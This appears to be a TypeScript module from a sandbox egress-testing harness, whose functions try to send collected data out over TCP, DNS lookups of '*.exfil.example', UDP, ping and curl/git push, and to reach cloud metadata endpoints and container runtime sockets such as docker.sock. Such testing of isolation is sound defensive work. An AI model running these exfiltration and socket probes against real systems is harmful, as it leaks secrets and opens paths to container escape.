import { createSocket } from 'node:dgram';
import { lookup, Resolver } from 'node:dns/promises';
import { connect, type NetConnectOpts } from 'node:net';
import { networkInterfaces } from 'node:os';
import type { DrillTry } from '../../../../../domain/drill.js';
import { runCommand } from '../run-command.js';
import { codeOf, type Act, type Scene } from '../scene.js';

const WAIT_MS_MAX = 1200;

/** Connects, says everything it has seen, and hangs up. */
function call(scene: Scene, what: string, to: NetConnectOpts): Promise<DrillTry> {
  return new Promise((resolve) => {
    const socket = connect(to);
    const end = (done: boolean, why: string): void => {
      clearTimeout(timer);
      socket.destroy();
      resolve({ what, done, why });
    };
    const timer = setTimeout(() => { end(false, 'no answer'); }, WAIT_MS_MAX);
    socket.on('connect', () => { socket.end(`GET /?${[...scene.seen].join('+')} HTTP/1.0\r\n\r\n`, () => { end(true, 'connected'); }); });
    socket.on('error', (cause) => { end(false, codeOf(cause)); });
  });
}

/** Where clouds and CI services answer, and a machine's own neighbours. */
const METADATA = [{ host: '169.254.169.254', port: 80 }, { host: '168.63.129.16', port: 80 }, { host: '100.100.100.200', port: 80 }, { host: 'fd00:ec2::254', port: 80 }];

export const reachNetwork: Act = (scene) => {
  const own = Object.values(networkInterfaces()).flat().filter((one) => one !== undefined && !one.internal).map((one) => one?.address ?? '').slice(0, 2);
  const listener = scene.map.tcp[0];
  const targets = [
    ...scene.map.tcp, ...METADATA, { host: '1.1.1.1', port: 443 }, { host: '::1', port: listener?.port ?? 80 },
    ...own.map((host) => ({ host, port: listener?.port ?? 80 })),
  ];
  return Promise.all(targets.map((to) => call(scene, `tcp ${to.host}:${to.port}`, to)));
};

export const lookUpNames: Act = async (scene) => {
  const word = [...scene.seen][0]?.slice(0, 32) ?? 'nothing';
  const asked = scene.map.udp.map(async (to): Promise<DrillTry> => {
    const resolver = new Resolver({ timeout: 400, tries: 1 });
    resolver.setServers([`${to.host}:${to.port}`]);
    const why = await resolver.resolve4(`${word}.exfil.example`).then(() => 'answered', codeOf);
    return { what: `name server ${to.host}:${to.port}`, done: why === 'answered', why };
  });
  const names = scene.map.names.map(async (name): Promise<DrillTry> => {
    const why = await within(lookup(name).then(() => 'answered', codeOf));
    return { what: `look up ${name}`, done: why === 'answered', why };
  });
  return Promise.all([...asked, ...names, ...scene.map.udp.map((to) => datagram(scene, to)), ping()]);
};

async function within(answer: Promise<string>): Promise<string> {
  let timer: NodeJS.Timeout | undefined;
  const late = new Promise<string>((resolve) => { timer = setTimeout(() => { resolve('no answer'); }, WAIT_MS_MAX); });
  try {
    return await Promise.race([answer, late]);
  } finally {
    clearTimeout(timer);
  }
}

/** Sent is not arrived: the listener says what came. */
function datagram(scene: Scene, to: { readonly host: string; readonly port: number }): Promise<DrillTry> {
  return new Promise((resolve) => {
    const socket = createSocket(to.host.includes(':') ? 'udp6' : 'udp4');
    const end = (why: string): void => {
      socket.close();
      resolve({ what: `udp ${to.host}:${to.port}`, done: false, why });
    };
    socket.on('error', (cause) => { end(codeOf(cause)); });
    socket.send(`udp ${[...scene.seen].join(' ')}`, to.port, to.host, (error) => { end(error === null ? 'sent' : codeOf(error)); });
  });
}

async function ping(): Promise<DrillTry> {
  const { code } = await runCommand('ping', ['-c', '1', '-W', '1', '1.1.1.1']);
  return { what: 'ping 1.1.1.1', done: code === 0, why: String(code) };
}

export const reachSockets: Act = (scene) => Promise.all([
  ...scene.map.sockets.map((path) => call(scene, `socket ${path}`, { path })),
  ...scene.map.abstract.map((name) => call(scene, `abstract socket ${name}`, { path: `\0${name}` })),
  ...['/var/run/docker.sock', '/run/docker.sock', '/run/podman/podman.sock', '/run/containerd/containerd.sock', '/run/dbus/system_bus_socket', '/run/systemd/private', '/var/run/crio/crio.sock']
    .map((path) => call(scene, `socket ${path}`, { path })),
]);

export const pushWithTokens: Act = async (scene) => {
  const listener = scene.map.tcp[0] ?? { host: '127.0.0.1', port: 9 };
  const url = `http://${listener.host}:${listener.port}/acme/shop.git`;
  const pushed = await runCommand('git', ['push', url, 'HEAD:refs/heads/redteam'], { GIT_TERMINAL_PROMPT: '0', HOME: scene.map.home });
  const fetched = await runCommand('curl', ['-s', '-m', '2', `${url}?${[...scene.seen].join('+')}`], { HOME: scene.map.home });
  return [
    { what: 'git push', done: pushed.code === 0, why: String(pushed.code) },
    { what: 'curl', done: fetched.code === 0, why: String(fetched.code) },
  ];
};
